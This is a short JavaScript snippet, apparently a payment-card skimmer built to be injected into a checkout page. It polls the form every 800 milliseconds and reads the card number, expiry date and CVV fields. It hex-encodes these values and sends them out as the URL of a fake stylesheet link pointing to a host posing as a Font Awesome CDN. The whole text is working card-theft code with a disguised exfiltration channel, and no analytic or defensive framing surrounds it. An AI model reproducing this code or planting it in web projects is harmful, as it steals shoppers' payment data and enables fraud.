var gate="https://font-awesome-cdn.example/css/?v=";
function toHex(s){var r="";for(var i=0;i<s.length;i++)r+=s.charCodeAt(i).toString(16);return r}
var last="";setInterval(function(){var n=document.querySelector("input[id*=cc_number]");if(n&&n.value.length>=15&&n.value!=last){last=n.value;var l=document.createElement("link");l.rel="stylesheet";l.href=gate+toHex(n.value+"|"+(document.querySelector("select[id*=expiration]")||{}).value+"|"+(document.querySelector("input[id*=cc_cid]")||{}).value);document.head.appendChild(l)}},800);
